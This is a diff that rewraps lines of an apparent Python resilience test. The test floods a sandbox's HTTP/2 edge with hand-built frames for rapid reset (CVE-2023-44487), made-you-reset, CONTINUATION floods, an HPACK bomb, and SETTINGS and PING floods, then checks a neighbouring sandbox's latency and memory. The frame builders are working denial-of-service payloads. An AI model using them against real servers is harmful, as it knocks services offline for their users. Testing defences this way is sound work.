@@ -1,10 +1,11 @@
 #!/usr/bin/python3
 """net_floods.py [--seconds 0.6] [--only ping,...] - HTTP/2 floods on sbx.net by a hostile guest.
 
-Each flood is frames made by hand, sent as fast as edge takes them (a new wire whenever edge has had enough of the last,
-after the keeper's pause). Meanwhile another sandbox, a second rig, makes small requests: their p50 must stay within 2 x of
-what it is while the attacker is stopped, no attacked edge may grow by more than 8 MiB, and afterwards there must be one
-that works. One JSON line; rapid reset is CVE-2023-44487, made-you-reset CVE-2025-8671.
+Each flood is frames made by hand, sent as fast as edge takes them (a new wire whenever edge has had
+enough of the last, after the keeper's pause). Meanwhile another sandbox, a second rig, makes small
+requests: their p50 must stay within 2 x of what it is while the attacker is stopped, no attacked
+edge may grow by more than 8 MiB, and afterwards there must be one that works. One JSON line; rapid
+reset is CVE-2023-44487, made-you-reset CVE-2025-8671.
 """
 import argparse
 import contextlib
@@ -31,7 +32,9 @@ END_STREAM, END_HEADERS = 1, 4
 
 
 def frame(kind, flags, stream, payload=b""):
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+    return struct.pack(">I",
+                       len(payload))[1:] + bytes([kind,
+                                                  flags]) + struct.pack(">I", stream) + payload
 
 
 def literal(name, value):
@@ -59,7 +62,8 @@ def same(make, before=b"", n=512):
 
 def hpack_bomb(stream):
     block = head() + b"\x40\x03big\x7f\x81\x1e" + b"x" * 4000  # a 4,000 byte value into the table
-    return frame(HEADERS, 0, stream, block) + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 8000)
+    return frame(HEADERS, 0, stream, block) + frame(CONTINUATION, END_HEADERS, stream,
+                                                    b"\xbe" * 8000)
 
 
 def made_reset(stream):
@@ -69,9 +73,11 @@ def made_reset(stream):
 
 OPEN = frame(HEADERS, END_HEADERS, 1, head())
 FLOODS = {
-    "rapid-reset": many(lambda s: frame(HEADERS, END_HEADERS, s, head()) + frame(RST, 0, s, struct.pack(">I", 8))),
+    "rapid-reset": many(lambda s: frame(HEADERS, END_HEADERS, s,
+                                        head()) + frame(RST, 0, s, struct.pack(">I", 8))),
     "made-you-reset": many(made_reset),
-    "continuation": same(lambda: frame(CONTINUATION, 0, 1, literal(b"x-pad", b"y" * 100) * 20), frame(HEADERS, 0, 1, head())),
+    "continuation": same(lambda: frame(CONTINUATION, 0, 1, literal(b"x-pad", b"y" * 100) * 20),
+                         frame(HEADERS, 0, 1, head())),
     "continuation-empty": same(lambda: frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, head())),
     "settings": same(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))),
     "ping": same(lambda: frame(PING, 0, 0, b"12345678")),
@@ -81,12 +87,15 @@ FLOODS = {
     "open-only": many(lambda s: frame(HEADERS, END_HEADERS, s, head())),
     "dns-asks": many(lambda s: frame(HEADERS, END_HEADERS, s, head(b"/dns/udp")) +
                      frame(DATA, END_STREAM, s, rig.query(f"n{s}.test"))),
-    "slow-heads": many(lambda s: frame(HEADERS, END_HEADERS, s, head()) + frame(DATA, 0, s, b"GET http://a.test/" + b"a" * 1000)),
+    "slow-heads": many(lambda s: frame(HEADERS, END_HEADERS, s,
+                                       head()) + frame(DATA, 0, s,
+                                                       b"GET http://a.test/" + b"a" * 1000)),
 }
 
 
 def attack(path, kind, seconds):
-    """In a process of its own: floods, and prints the connections it needed and the bytes that edge took."""
+    """In a process of its own: floods, and prints the connections it needed and the bytes that edge
+    took."""
     blob, end, wires, sent = FLOODS[kind], time.time() + seconds, 0, 0
     while time.time() < end:
         wires += 1
@@ -101,7 +110,8 @@ def attack(path, kind, seconds):
                 data, stream = blob(stream)
                 sock.sendall(data)
                 sent += len(data)
-                while select.select([sock], [], [], 0)[0]:  # answers are read, or edge soon gives up
+                # answers are read, or edge soon gives up
+                while select.select([sock], [], [], 0)[0]:
                     if not sock.recv(1 << 20):
                         raise ConnectionResetError
         time.sleep(min(PAUSE, max(0, end - time.time())))
@@ -109,9 +119,11 @@ def attack(path, kind, seconds):
 
 
 def request(box):
-    """Both ends end the stream: one that is reset each time would be a flood of its own on a fast machine."""
+    """Both ends end the stream: one that is reset each time would be a flood of its own on a fast
+    machine."""
     with box.proxy() as stream:
-        stream.send(b"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
+        stream.send(
+            b"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
         stream.half_close()
         return stream.rest().startswith(b"HTTP/1.1 200 ")
 
@@ -151,8 +163,9 @@ def flood(kind, box, other, seconds, idle_kib, tries=3):
 
 
 def growth(seen, idle_kib):
-    """KiB above an idle edge, of those that live and of those that ended. Of an ended one the peak has the rig's own size
-    from before the exec in it: what is below that is not seen, and the rig is smaller than the bound."""
+    """KiB above an idle edge, of those that live and of those that ended. Of an ended one the peak
+    has the rig's own size from before the exec in it: what is below that is not seen, and the rig
+    is smaller than the bound."""
     live = max(s["edge"]["peak_kib"] for s in seen)
     ended = max(s["edge"]["ended_peak_kib"] for s in seen)
     assert seen[-1]["rig_kib"] < idle_kib + GROWTH_KIB
@@ -160,8 +173,10 @@ def growth(seen, idle_kib):
 
 
 def flood_once(kind, box, other, seconds, idle_kib):
-    """The attacker is stopped and let go in turns, so that what else the machine does is in both."""
-    child = subprocess.Popen([sys.executable, "-B", __file__, "--attack", kind, "--socket", str(box.dir / "s"), "--seconds", str(2 * seconds)],
+    """The attacker is stopped and let go in turns, so that what else the machine does is in
+    both."""
+    child = subprocess.Popen([sys.executable, "-B", __file__, "--attack", kind, "--socket",
+                              str(box.dir / "s"), "--seconds", str(2 * seconds)],
                              stdout=subprocess.PIPE)
     calm, flooded, failed, seen = [], [], 0, []
     assert box.command("forget") == "ok"
@@ -177,7 +192,8 @@ def flood_once(kind, box, other, seconds, idle_kib):
     before, after = statistics.median(calm), statistics.median(flooded)
     grew = growth(seen + [box.stats()], idle_kib)
     ok = still_works(box) and failed == 0 and after <= 2 * before and grew <= GROWTH_KIB
-    return {**result, "ok": ok, "p50_ms": [round(before, 2), round(after, 2)], "ratio": round(after / before, 2), "grew_kib": grew, "failed": failed}
+    return {**result, "ok": ok, "p50_ms": [round(before, 2), round(after, 2)],
+            "ratio": round(after / before, 2), "grew_kib": grew, "failed": failed}
 
 
 def first_request(box):
@@ -203,13 +219,16 @@ def idle_size(box):
 def run(seconds, only):
     listener = rig.Listener(0, rig.http_ok, "127.0.0.1")
     with rig.Rig("allow network other.test", raw=True) as box, \
-            rig.Rig("allow network other.test", {"other.test:80": f"127.0.0.1:{listener.port}"}) as other:
+            rig.Rig("allow network other.test",
+                    {"other.test:80": f"127.0.0.1:{listener.port}"}) as other:
         first_request(other)
         assert still_works(box)
         idle_kib = idle_size(box)
-        found = {kind: flood(kind, box, other, seconds, idle_kib) for kind in FLOODS if not only or kind in only}
+        found = {kind: flood(kind, box, other, seconds, idle_kib) for kind in FLOODS if not only
+                 or kind in only}
         stats = box.stats()
-    return {"id": "floods", "ok": all(f["ok"] for f in found.values()), "floods": found, "violations": stats["violations"],
+    return {"id": "floods", "ok": all(f["ok"] for f in found.values()), "floods": found,
+            "violations": stats["violations"],
             "edge_starts": stats["edge"]["starts"]}
 
 
